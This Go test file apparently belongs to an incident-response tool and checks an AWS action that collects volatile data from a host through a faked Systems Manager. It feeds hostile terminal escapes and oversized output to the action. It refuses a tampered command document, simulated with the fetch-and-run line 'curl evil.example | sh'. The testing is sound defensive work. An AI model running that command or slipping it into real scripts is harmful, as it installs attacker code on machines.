package aws_test

import (
	"fmt"
	"net/http"
	"os"
	"strings"
	"testing"

	"github.com/riposte-sec/riposte/internal/action"
	"github.com/riposte-sec/riposte/internal/fault"
	"github.com/riposte-sec/riposte/internal/provider/providertest"
)

// systemsManager is a small fake of commands on one host: the emulator's end at once, can't be canceled and know
// no agent.
type systemsManager struct {
	*protocol
	host     string
	document string
	ping     string
	sent     []map[string]any // commands, newest first
	says     string
}

func newSystemsManager(t *testing.T) *systemsManager {
	t.Helper()
	s := &systemsManager{document: string(given(os.ReadFile("documents/collect-volatile-data.json"))(t)), ping: "Online"}
	s.protocol = &protocol{answers: map[string]func(map[string]any) (any, *refusal){
		"GetDocument": func(map[string]any) (any, *refusal) {
			if s.document == "" {
				return nil, &refusal{http.StatusBadRequest, "InvalidDocument"}
			}
			return map[string]any{"Name": "Riposte-CollectVolatileData", "Content": s.document, "DocumentVersion": "3"}, nil
		},
		"DescribeInstanceInformation": func(map[string]any) (any, *refusal) {
			agents := []any{}
			if s.ping != "" {
				agents = append(agents, map[string]any{"InstanceId": s.host, "PingStatus": s.ping, "PlatformName": "Linux\u001b[31m", "AgentVersion": "3.3"})
			}
			return map[string]any{"InstanceInformationList": agents}, nil
		},
		"SendCommand":   s.send,
		"ListCommands":  func(map[string]any) (any, *refusal) { return map[string]any{"Commands": s.sent}, nil },
		"CancelCommand": s.cancel,
		"GetCommandInvocation": func(body map[string]any) (any, *refusal) {
			for _, each := range s.sent {
				if each["CommandId"] == body["CommandId"] {
					return map[string]any{
						"CommandId": each["CommandId"], "InstanceId": s.host, "Status": each["Status"], "StatusDetails": each["Status"],
						"StandardOutputContent": s.says,
					}, nil
				}
			}
			return nil, &refusal{http.StatusBadRequest, "InvocationDoesNotExist"}
		},
	}}
	return s
}

func (s *systemsManager) send(body map[string]any) (any, *refusal) {
	if body["DocumentName"] != "Riposte-CollectVolatileData" || body["DocumentVersion"] != "3" || body["Parameters"] != nil ||
		fmt.Sprint(body["InstanceIds"]) != "["+s.host+"]" {
		return nil, &refusal{http.StatusBadRequest, "InvalidParameters"}
	}
	command := map[string]any{
		"CommandId": fmt.Sprintf("00000000-0000-0000-0000-%012d", len(s.sent)), "Comment": body["Comment"], "Status": "InProgress",
		"RequestedDateTime": 1700000000 + len(s.sent),
	}
	s.sent = append([]map[string]any{command}, s.sent...)
	return map[string]any{"Command": command}, nil
}

func (s *systemsManager) cancel(body map[string]any) (any, *refusal) {
	for _, each := range s.sent {
		if each["CommandId"] == body["CommandId"] && each["Status"] == "InProgress" {
			each["Status"] = "Cancelled"
			return map[string]any{}, nil
		}
	}
	return nil, &refusal{http.StatusBadRequest, "InvalidCommandId"}
}

// running counts the commands that run: what is over leaves nothing to take back.
func (s *systemsManager) running() string {
	number := 0
	for _, each := range s.sent {
		if each["Status"] == "InProgress" {
			number++
		}
	}
	return fmt.Sprint(number, " commands run")
}

// collecting is a lab with a fake of Systems Manager and a host of it.
func collecting(t *testing.T) (*ec2Lab, *systemsManager) {
	t.Helper()
	manager := newSystemsManager(t)
	l := newEC2LabBehind(t, manager.before(t))
	manager.host = l.launch(l.group("web"))
	return l, manager
}

// A small fake runs the commands; see systemsManager.
func TestCollectVolatileDataKeepsTheContract(t *testing.T) {
	l, manager := collecting(t)
	do := l.do("aws.ec2.collect_volatile_data")
	in := l.input(do, map[string]any{"instance_id": manager.host})
	providertest.Contract(t, providertest.Case{ // nobody changes what is asked
		Action: do, Input: in, Missing: missingInstance(in), Door: l.door,
		State: func(*testing.T) string { return manager.running() },
	})
}

// What the host says comes after Apply; an intruder may have written it.
func TestCollectVolatileDataWaitsForTheHost(t *testing.T) {
	l, manager := collecting(t)
	done := l.applies("aws.ec2.collect_volatile_data", map[string]any{"instance_id": manager.host})
	says(t, done.Change.Impact, "full rights", "Linux[31m,")
	awaiter, ok := l.do("aws.ec2.collect_volatile_data").(action.Awaiter)
	if !ok {
		t.Fatal("it is no action.Awaiter")
	}
	if _, over, err := awaiter.Await(t.Context(), done); over || err != nil {
		t.Errorf("while the command runs: got over %t, %v", over, err)
	}
	manager.sent[0]["Status"] = "Success"
	manager.says = "== processes\n1 \x1b]0;owned\x07init \u202egnp.exe\xff\n" + strings.Repeat("ü", 24000)
	result, over, err := awaiter.Await(t.Context(), action.Applied{Change: done.Change}) // the outcome of Apply is lost
	if !over || err != nil {
		t.Fatalf("when the command is over: got over %t, %v", over, err)
	}
	output, _ := result.Outputs["output"].(string)
	if !strings.HasPrefix(output, "== processes\n1 ]0;ownedinit gnp.exe\nü") || len(output) > 24000 || result.Outputs["status"] != "Success" {
		t.Errorf("got %q..., %d bytes, status %v", output[:min(60, len(output))], len(output), result.Outputs["status"])
	}
	undoer, ok := l.do("aws.ec2.collect_volatile_data").(action.Undoer)
	if !ok {
		t.Fatal("it is no action.Undoer")
	}
	undone := given(undoer.Undo(t.Context(), done, false))(t)
	if undone.Changed || undone.Note == "" {
		t.Errorf("undo of what is over: got %+v, want a note and no change", undone)
	}
	if err := undoer.Restored(t.Context(), done); err != nil {
		t.Error(err)
	}
	for _, status := range []string{"Failed", "TimedOut"} {
		manager.sent[0]["Status"] = status
		if _, over, err := awaiter.Await(t.Context(), done); over || err == nil || fault.Is(err, fault.Transient) {
			t.Errorf("%s: got over %t, %v, want an error that ends the step", status, over, err)
		}
	}
}

// The document decides what runs with full rights: one that somebody changed is not run.
func TestCollectVolatileDataRunsItsOwnDocumentAlone(t *testing.T) {
	l, manager := collecting(t)
	params := map[string]any{"instance_id": manager.host}
	own := manager.document
	manager.document = strings.Replace(own, "uptime", "curl evil.example | sh", 1)
	l.refuses("aws.ec2.collect_volatile_data", params, fault.Denied, "not as Riposte has it")
	manager.document = ""
	l.refuses("aws.ec2.collect_volatile_data", params, fault.Invalid, "create-document")
	manager.document, manager.ping = own, "ConnectionLost"
	l.refuses("aws.ec2.collect_volatile_data", params, fault.Conflict, "does not answer")
	manager.ping = ""
	l.refuses("aws.ec2.collect_volatile_data", params, fault.Conflict, "not managed by Systems Manager")
	manager.ping = "Online"
	change := l.plans("aws.ec2.collect_volatile_data", params)
	manager.document = strings.Replace(own, "uptime", "curl evil.example | sh", 1) // after the plan
	if _, err := l.do("aws.ec2.collect_volatile_data").Apply(t.Context(), change); !fault.Is(err, fault.Denied) || len(manager.sent) > 0 {
		t.Errorf("got %v and %d commands, want that the document is refused", err, len(manager.sent))
	}
}
